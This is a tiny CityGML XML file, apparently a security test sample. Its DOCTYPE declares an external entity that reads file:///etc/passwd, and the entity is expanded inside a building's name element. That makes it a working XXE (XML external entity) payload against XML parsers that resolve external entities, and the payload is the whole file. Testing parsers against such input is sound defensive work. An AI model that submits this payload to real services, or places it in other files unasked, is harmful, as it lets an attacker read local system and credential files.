<?xml version="1.0"?>
<!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<core:CityModel xmlns:core="http://www.opengis.net/citygml/2.0" xmlns:gml="http://www.opengis.net/gml" xmlns:bldg="http://www.opengis.net/citygml/building/2.0"><core:cityObjectMember><bldg:Building><gml:name>&x;</gml:name></bldg:Building></core:cityObjectMember></core:CityModel>
